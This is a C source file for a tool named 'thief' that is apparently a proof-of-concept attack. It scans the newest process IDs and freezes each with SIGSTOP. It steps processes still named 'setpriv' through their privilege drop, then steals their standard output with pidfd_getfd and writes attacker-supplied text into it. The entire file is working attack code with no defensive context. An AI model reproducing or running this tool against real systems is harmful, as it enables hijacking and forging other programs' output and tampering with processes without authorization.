/*
 * thief SAYS NAME...: takes the standard output from every process of our own user that bears one of these names (pidfd_getfd(2)), from the
 * moment that it runs with our rights; keeps it open for good, and writes the text of the file SAYS there. One line about each.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char says[4096];
static ssize_t length;

static int slurp(const char *path, char *into, int size) {
    int fd = open(path, O_RDONLY), n;
    if (fd < 0) return -1;
    n = read(fd, into, size - 1);
    close(fd);
    if (n >= 0) into[n] = 0;
    return n;
}

static int newest(void) {
    char text[256];
    slurp("/proc/loadavg", text, sizeof text);
    return atoi(strrchr(text, ' ') + 1);
}

/* What a process that steps down is called before it is what it shall be. */
static int stepping(const char *name) { return strcmp(name, "setpriv") == 0; }

static void take(int pid, char **names) {
    char path[64], name[64];
    int process = syscall(SYS_pidfd_open, pid, 0), tries, each, fd;
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    for (tries = 0; tries < 20000 && slurp(path, name, sizeof name) > 0; tries++) {
        name[strcspn(name, "\n")] = 0;
        for (each = 0; names[each] != NULL && strcmp(names[each], name) != 0; each++) { /* the next */ }
        if (names[each] != NULL && (fd = syscall(SYS_pidfd_getfd, process, 1, 0)) >= 0) {
            fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
            printf("took %s, wrote %zd\n", name, write(fd, says, length));
            fflush(stdout);
            break;
        }
        if (!stepping(name)) break;
        kill(pid, SIGCONT);
        usleep(20);
        if (kill(pid, SIGSTOP) != 0) break;
    }
    kill(pid, SIGCONT);
    close(process);
}

int main(int argc, char **argv) {
    int me = getpid(), last, pid;
    if (argc < 3 || (length = slurp(argv[1], says, sizeof says)) < 0) return 2;
    for (;;) {
        last = newest();
        for (pid = last; pid > last - 24 && pid > 1; pid--)
            if (pid != me && kill(pid, SIGSTOP) == 0) take(pid, argv + 2);
    }
}
